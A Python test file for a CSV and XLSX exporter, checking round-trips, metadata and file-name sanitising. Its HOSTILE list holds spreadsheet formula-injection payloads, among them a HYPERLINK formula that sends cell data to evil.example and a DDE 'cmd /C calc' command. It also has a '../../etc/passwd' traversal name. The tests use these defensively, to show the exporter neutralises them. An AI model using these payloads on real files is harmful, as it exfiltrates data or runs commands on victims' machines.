"""What visitors take home: the same rows, what they are about, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable

import pandas as pd
import pytest

from lessons import columns, export
from lessons.tables import tables
from tests import sample
from tests.downloads import about_csv, part, read_csv, read_xlsx

ABOUT = {"Titel": "Lessen, alle", "Filters": "geen", "Licentie": "CC BY 4.0", "Link": "/lessen?zoek==1+1"}
BESIDE = [("Bron", "Een titel, 2014", "https://bron.example/"), ("Kolom", "a", "een getal")]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+31 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "a;=1+1",
    "a\n=1+1",
    '","=1+1',
]
HARMLESS = [
    "gewoon",
    "1~2~3 en ~~weg~~",
    "a,b;c",
    'zei: "ja"',
    "C:\\nieuw\\",
    "null",
    "NA",
    "# geen uitleg",
    "👨‍👩‍👧",
    "regel 1\n\nregel 2",
    "x; - y is -1",
]


def test_csv_gives_back_the_rows_of_the_frame() -> None:
    frame = tables(sample.catalogue(), "nl").judgements
    back = read_csv(export.csv(frame, ABOUT))
    assert list(back.columns) == list(frame.columns)
    assert len(back) == len(frame)
    for column in ("id", "reason", "state", "date"):
        assert back[column].tolist() == frame[column].astype("object").tolist()
    assert back["level"].tolist() == ["2", "", "", "3"]
    assert back["day"].tolist()[0] == "2014-12-31"


def test_csv_opens_with_its_accents_and_says_what_it_is_about() -> None:
    raw = export.csv(pd.DataFrame({"naam": ["coördinatie"]}), ABOUT)
    assert raw.startswith("\ufeff#,".encode())
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert lines[:2] == ['#,"Titel","Lessen, alle"', '#,"Filters","geen"']
    assert lines[4:] == ['"naam"', '"coördinatie"', ""]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_comes_back_letter_for_letter(text: str) -> None:
    frame = pd.DataFrame({"tekst": pd.Series([text], dtype="str"), "n": [-1]})
    back = read_csv(export.csv(frame, ABOUT))
    assert back["tekst"].tolist() == [text.replace("; - y", ";' - y")]
    assert back["n"].tolist() == ["-1"]
    assert read_xlsx(export.xlsx(frame, ABOUT))[1] == [text, "-1"]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("quotes", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
def test_no_reader_finds_a_cell_that_begins_a_formula(delimiter: str, quotes: int) -> None:
    """Whatever sign a spreadsheet takes for the end of a cell, and whether or not it minds the quotes."""
    frame = pd.DataFrame({"=kop": pd.Series(HOSTILE, dtype="str"), "soort": pd.Categorical(["=1"] * len(HOSTILE))})
    beside = [("=soort", *HOSTILE)]
    text = export.csv(frame, {"=naam": "=waarde", "\n=x": "a\n=b"}, beside).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quotes):  # type: ignore[arg-type]
        assert not [cell for cell in row if re.match(r"\s*[=+\-@＝＋－＠]", cell)], row


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_a_formula_in_a_text_gets_a_quote_before_it(text: str) -> None:
    back = read_csv(export.csv(pd.DataFrame({"tekst": pd.Series([text], dtype="str")}), {}))
    assert "'" in back["tekst"][0]
    assert back["tekst"][0].replace("'", "").replace("\r\n", "\n") == text.replace("'", "").replace("\r\n", "\n")


def test_xlsx_holds_no_formula_and_no_link_and_keeps_every_letter() -> None:
    frame = pd.DataFrame({"=kop": pd.Series([*HOSTILE, "https://evil.example/"], dtype="str")})
    raw = export.xlsx(frame, {"=naam": "=waarde"}, [("=soort", *HOSTILE)], ("=blad", "+blad"))
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        for name in book.namelist():
            assert not re.search(rb"<f[ >]|<hyperlink", book.read(name)), name
    assert [row[0] for row in read_xlsx(raw)] == ["=kop", *frame["=kop"]]
    assert read_xlsx(raw, sheet=2)[0] == ["=naam", "=waarde"]


def test_xlsx_keeps_numbers_and_days_as_such_and_the_unknown_empty() -> None:
    """A day is the number that a spreadsheet counts it as, from 1900; nothing is written where nothing is known."""
    frame = tables(sample.catalogue(), "nl").series[["series", "target", "percent", "day"]]
    raw = export.xlsx(frame, ABOUT)
    assert read_xlsx(raw)[1:] == [["jobs", "10", "42369"], ["jobs", "61", "43100"]]
    assert b"yyyy-mm-dd" in part(raw, "xl/styles.xml")


def test_a_day_before_the_count_of_a_spreadsheet_stays_a_text() -> None:
    frame = pd.DataFrame({"day": pd.Series(["1815-06-18", None], dtype="datetime64[us]")})
    assert read_xlsx(export.xlsx(frame, {})) == [["day"], ["1815-06-18"]]


def test_xlsx_keeps_its_head_in_sight_filters_and_prints_wide_with_the_head_on_every_page() -> None:
    raw = export.xlsx(tables(sample.catalogue(), "nl").judgements, ABOUT)
    sheet = part(raw, "xl/worksheets/sheet1.xml").decode()
    assert 'state="frozen"' in sheet
    assert "<autoFilter" in sheet
    assert 'orientation="landscape"' in sheet
    assert 'fitToHeight="0"' in sheet
    assert b"_xlnm.Print_Titles" in part(raw, "xl/workbook.xml")


def test_xlsx_has_its_title_and_no_name_of_a_person_and_no_moment() -> None:
    core = part(export.xlsx(pd.DataFrame({"a": [1]}), ABOUT), "docProps/core.xml").decode()
    assert "<dc:title>Lessen, alle</dc:title>" in core
    assert "<dc:creator></dc:creator>" in core
    assert set(re.findall(r"\d{4}-\d\d-\d\d", core)) == {"1980-01-01"}


@pytest.mark.parametrize("make", [export.csv, export.xlsx])
def test_the_same_rows_give_the_same_bytes(make: Callable[..., bytes], monkeypatch: pytest.MonkeyPatch) -> None:
    frame = tables(sample.catalogue(), "nl").judgements
    first = make(frame, ABOUT, BESIDE)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert make(frame, ABOUT, BESIDE) == first


def test_what_stands_beside_the_rows_is_in_both_files() -> None:
    frame = pd.DataFrame({"a": [1]})
    told = [*map(list, ABOUT.items()), *map(list, BESIDE)]
    assert about_csv(export.csv(frame, ABOUT, BESIDE)) == [[*told[0]], *told[1:]]
    assert read_xlsx(export.xlsx(frame, ABOUT, BESIDE), sheet=2) == told


@pytest.mark.parametrize(("name", "safe"), [
    ("vakken", "vakken.csv"), ("=cmd|' /C calc'!A0", "cmd-C-calc-A0.csv"), ("../../etc/passwd", "etc-passwd.csv"),
    ("a\nb", "a-b.csv"), ("", "data.csv"), ("@é", "data.csv"),
])  # fmt: skip
def test_a_file_name_is_only_a_name(name: str, safe: str) -> None:
    assert export.file_name(name, "csv") == safe


@pytest.mark.parametrize("name", ["=1+1", "'; DROP", "a/b:c*d?e[f]", "x" * 60, "", "History\n"])
def test_a_sheet_takes_any_name(name: str) -> None:
    raw = export.xlsx(pd.DataFrame({"a": [1]}), {}, (), (name, "about"))
    assert read_xlsx(raw) == [["a"], ["1"]]


@pytest.mark.parametrize("name", ["lessons", "judgements", "series", "links", "problems"])
def test_an_empty_frame_still_makes_both_files(name: str) -> None:
    empty = columns.frame(name, [])
    assert list(read_csv(export.csv(empty, ABOUT)).columns) == list(empty.columns)
    assert read_xlsx(export.xlsx(empty, ABOUT)) == [list(empty.columns)]


def test_text_that_no_file_can_hold_is_replaced_or_cut() -> None:
    frame = pd.DataFrame({"tekst": pd.Series(["\ud800x", "a" * 40_000], dtype="object")})
    assert b"x" in export.csv(frame, {})
    assert len(read_xlsx(export.xlsx(frame, {}))[2][0]) == export.LONGEST_CELL
